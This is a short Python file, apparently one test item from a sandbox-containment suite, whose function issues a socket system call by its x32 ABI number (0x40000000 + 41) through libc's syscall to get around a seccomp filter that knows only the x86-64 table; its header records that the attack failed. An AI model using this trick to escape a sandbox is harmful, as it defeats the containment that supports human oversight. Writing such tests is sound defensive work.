"""Make system calls by the table of another architecture, which a filter may not know.

kind: escaping
attacks: cell
mentions: the attack failed
twin: no: most kernels have no x32
"""

import ctypes


def attack():
    call = ctypes.CDLL(None, use_errno=True).syscall
    return call(0x40000000 + 41, 2, 1, 0) >= 0  # socket, by the numbers of x32
